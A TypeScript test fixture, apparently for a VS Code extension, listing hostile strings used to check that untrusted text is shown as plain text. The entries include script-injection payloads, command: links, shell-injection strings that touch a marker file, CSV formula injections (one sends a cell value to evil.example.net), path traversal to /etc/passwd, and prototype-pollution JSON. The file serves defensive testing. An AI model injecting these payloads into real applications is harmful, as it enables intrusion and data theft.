import type { Random } from "../../src/sandbox/seed/random";

/**
 * A text that must be shown as plain text. `marker` identifies the shown text; README.md lists the sources of the
 * ideas.
 */
export interface HostileText {
  readonly idea: string;
  readonly value: string;
}

const idea = (name: string, ...values: readonly string[]): HostileText[] =>
  values.map((value) => ({ idea: name, value }));

/** The name that a script would define if it ran in a page. */
export const pwned = "__pwned";
const run = `window.${pwned}=1`;

/** A command that would create a file if it ran; tests search the working folder for the file. */
export const pwnedFile = "pwned-by-a-record";

/** A million characters, which make quadratic time noticeable. */
const manyCharacters = 1_000_000;

export const hostileTexts: readonly HostileText[] = [
  ...idea(
    "HTML and script",
    `<script>${run}</script>`,
    `<img src=x onerror=${run}>`,
    `"><svg/onload=${run}>`,
    `' onmouseover='${run}' x='`,
    `</textarea></title></style></script><iframe srcdoc="<script>parent.${run}</script>">`,
    `<a href="command:workbench.action.quit">close</a>`,
    `<style>*{display:none}</style>`,
    `<!--`,
    `]]>`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `<base href="https://evil.example.net/">`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example.net">`,
  ),
  ...idea(
    "Markdown",
    `[Renew the licence](command:workbench.action.quit)`,
    `[Sign in again](https://evil.example.net/login)`,
    `[a](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%22%7D)`,
    `![x](https://evil.example.net/pixel.png)`,
    `[x][1]\n\n[1]: command:workbench.action.quit`,
    `<command:workbench.action.quit>`,
    `**bold** _it_ \`code\` ~~gone~~`,
    `\n# Heading\n---\n| a | b |\n|---|---|`,
    `[[a](command:workbench.action.quit)](https://evil.example.net)`,
    `[a]\u200b(command:workbench.action.quit)`,
    `[a](\tcommand:workbench.action.quit)`,
  ),
  ...idea("icons of VS Code", `$(error) $(trash~spin)`, `\\$(warning)`, `$($(bug))`, `$(`),
  ...idea(
    "terminal escapes",
    `\u001b[31mred\u001b[0m`,
    `\u001b]8;;https://evil.example.net\u0007link\u001b]8;;\u0007`,
    `\u001b]0;title\u0007`,
    `\u001b[2J\u001b[H`,
    `\u009b31m`,
    `\u0008\u0008\u0008\u0008admin`,
  ),
  ...idea(
    "bidi",
    `user\u202enimda`,
    `\u202dabc\u202c`,
    `\u2066a\u2067b\u2069\u2069`,
    `\u2068admin`,
    `invoice\u202efdp.exe`,
    `\u200fa\u200eb\u061c`,
    `\u05d0\u05d1\u05d2 (1)`,
  ),
  ...idea(
    "invisible",
    `ad\u200bmin`,
    `ad\u200dmin`,
    `ad\u200cmin`,
    `ad\u2060min`,
    `\ufeffadmin`,
    `ad\u00admin`,
    `ad\u034fmin`,
    `\u3164`,
    `\u115f\u1160`,
    `\uffa0`,
    `\u2800`,
    `admin\u{e0041}\u{e0042}`,
    `a\u180eb`,
    `\u2063\u2062\u2061`,
    `a\ufff9b\ufffac\ufffb`,
    `admin\ufe0f\ufe0e`,
    ` admin `,
    `admin\u00a0`,
    `\u2028a\u2029b`,
    `admin\u{1d173}\u{1d17a}`,
  ),
  ...idea(
    "look-alikes and rare letters",
    `\u0430dmin`,
    `\u{1d41a}dmin`,
    `\u00e9 e\u0301 \u{1f468}\u200d\u{1f469}\u200d\u{1f467}`,
  ),
  ...idea("combining floods", `Z${"\u0335\u0321\u0489\u0301".repeat(60)}`, `\u0e01${"\u0e49".repeat(300)}`),
  ...idea("broken Unicode", `\ud800`, `a\udc00b`, `\udbff`, `\ud83d`, `\ufffe\uffff`, `\ufffd`),
  ...idea("controls", `a\u0000b`, `\u0001\u0002\u001f\u007f`, `a\tb`, `a\u000bb\u000cc`, `\u0085`),
  ...idea(
    "line breaks",
    `a\r\n2026-01-02 03:04:05.678 [info] DELETE /api/v1/user/1 204 1 ms [Acme]`,
    `a\nRealm: another`,
    `a\rb`,
    `\n\n\n\n\n\n\n\n\n\n\n\nThis cannot be undone.`,
    `a\r\nSet-Cookie: x=1\r\n\r\n<html>`,
  ),
  ...idea(
    "prototype",
    `__proto__`,
    `constructor`,
    `prototype`,
    `toString`,
    `hasOwnProperty`,
    `valueOf`,
    `__defineGetter__`,
  ),
  ...idea(
    "numbers",
    `9007199254740993`,
    `-9007199254740993`,
    `340282366920938463463374607431768211456`,
    `1e400`,
    `-0`,
    `0x7f`,
    `1_000`,
    `NaN`,
    `Infinity`,
    `00042`,
    `٤٢`,
    `1,234.5`,
  ),
  ...idea("words of languages", `null`, `undefined`, `None`, `true`, `False`, `nil`, `[object Object]`, ``, ` `),
  ...idea(
    "spreadsheet formulas",
    `=1+1`,
    `=HYPERLINK("https://evil.example.net/?"&A1,"open")`,
    `+cmd|' /C calc'!A0`,
    `-2+3`,
    `@SUM(1+1)`,
    `\t=1+1`,
    `\r=1+1`,
    `;=1+1`,
    `"=1+1"`,
    `a","=1+1`,
    `a\n=1+1`,
  ),
  ...idea(
    "shell",
    `'$(touch ${pwnedFile})'`,
    `\`touch ${pwnedFile}\``,
    `$(touch ${pwnedFile})`,
    `'; touch ${pwnedFile}; '`,
    `" && touch ${pwnedFile} && "`,
    `| touch ${pwnedFile}`,
    `\ntouch ${pwnedFile}\n`,
    `-o ${pwnedFile}`,
    `--next`,
    `@/etc/passwd`,
    `!!`,
    `\\`,
    `'\\''`,
    `$TOKEN $HOME \${PATH}`,
    `*?[a-z]{a,b}~`,
    `%00%0a%0d`,
    `\ue000HOME\ue000`,
    `\ue000TOKEN\ue000`,
    `%EE%80%80TOKEN%EE%80%80`,
  ),
  ...idea(
    "paths and addresses",
    `../../../../etc/passwd`,
    `..\\..\\windows\\win.ini`,
    `/etc/passwd`,
    `C:\\con\\aux`,
    `CON`,
    `.`,
    `..`,
    `.ssh`,
    `a/b?c#d`,
    `%2e%2e%2f`,
    `~/.bashrc`,
    `file.json\u0000.exe`,
    `name:stream`,
    `javascript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `vscode://file/etc/passwd`,
    `command:workbench.action.quit`,
    `file:///etc/passwd`,
    `//evil.example.net/x`,
    `https://user@evil.example.net`,
  ),
  ...idea(
    "placeholders",
    `{0}`,
    `{0} {1} {99}`,
    `%s %d %n %x`,
    `\${env:HOME}`,
    `{{constructor.constructor('${run}')()}}`,
    `%{x}`,
    `$1 $& $\``,
  ),
  ...idea(
    "very long",
    "a".repeat(5000),
    "wide ".repeat(2000),
    "<".repeat(3000),
    "\\".repeat(3000),
    `[${"](".repeat(1500)}`,
  ),
];

/** One text per idea, or all texts if `count` is large enough. */
export function someTexts(count: number, random: Random): readonly HostileText[] {
  if (count >= hostileTexts.length) return hostileTexts;
  const ideas = [...new Set(hostileTexts.map(({ idea: name }) => name))];
  return ideas.map((name) => random.pick(hostileTexts.filter((text) => text.idea === name)));
}

/** Texts of a million characters that slow down careless regular expressions. */
export const hugeTexts: readonly HostileText[] = [
  ...idea("1 MB", "x".repeat(manyCharacters)),
  ...idea("1 MB of names of secrets", "token=".repeat(manyCharacters / 6)),
  ...idea("1 MB of quotes", '\\"'.repeat(manyCharacters / 2)),
  ...idea("1 MB of blanks", " ".repeat(manyCharacters)),
  ...idea("1 MB of digits", "1".repeat(manyCharacters)),
  ...idea("1 MB of tags", "<a ".repeat(manyCharacters / 3)),
  ...idea("1 MB of invisible characters", "\u200b".repeat(manyCharacters)),
  ...idea("1 MB of the bearer's word", "Bearer ".repeat(manyCharacters / 7)),
  ...idea("1 MB of brackets", "](".repeat(manyCharacters / 2)),
  ...idea("1 MB of combining marks", `a${"\u0301".repeat(manyCharacters)}`),
  ...idea("1 MB of emoji", "\u{1f600}".repeat(manyCharacters / 2)),
];

/** JSON of values other than texts, as in a response. */
export const hostileJson: readonly string[] = [
  "9007199254740993",
  "-9007199254740993",
  "123456789012345678901234567890",
  "1e400",
  "-1e400",
  "1e-400",
  "-0",
  "0.1000000000000000055511151231257827",
  "1E+2",
  "true",
  "false",
  "null",
  '"constructor"',
  "[]",
  "{}",
  "[[]]",
  '{"__proto__": {"polluted": true}}',
  '{"constructor": {"prototype": {"polluted": true}}}',
  '{"toString": 1, "valueOf": null, "toJSON": "x", "length": 9007199254740993, "then": 1}',
  '{"a": 1, "a": 2}',
  '{"": ""}',
  '{"data": {"data": {"datas": null}}}',
  '["a", 1, null, {}, []]',
];

/** A depth that overflows the stack of recursive code. */
const deep = 30_000;

/** JSON that is nested too deep for recursive code. */
export const deepJson: readonly string[] = [
  `${"[".repeat(deep)}9007199254740993${"]".repeat(deep)}`,
  `${'{"data":'.repeat(deep)}9007199254740993${"}".repeat(deep)}`,
  `${'{"message":'.repeat(deep)}1${"}".repeat(deep)}`,
];
